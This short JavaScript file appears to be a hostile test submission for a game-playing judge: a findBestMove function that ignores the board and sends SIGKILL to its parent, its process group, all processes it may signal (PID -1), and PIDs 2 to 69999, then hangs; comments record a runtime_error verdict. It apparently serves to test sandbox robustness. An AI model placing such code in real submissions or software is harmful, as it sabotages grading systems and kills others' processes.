// idea: kills its parent, its group and every process that it may
// verdict: runtime_error
// reason: SIGKILL
export function findBestMove(board) {
  for (const number of [process.ppid, 1, 0, -1]) {
    try {
      process.kill(number, "SIGKILL");
    } catch {
      continue;
    }
  }
  for (let number = 2; number < 70000; number++) {
    try {
      process.kill(number, "SIGKILL");
    } catch {
      continue;
    }
  }
  process.kill(process.pid, "SIGKILL");
  for (;;);
}
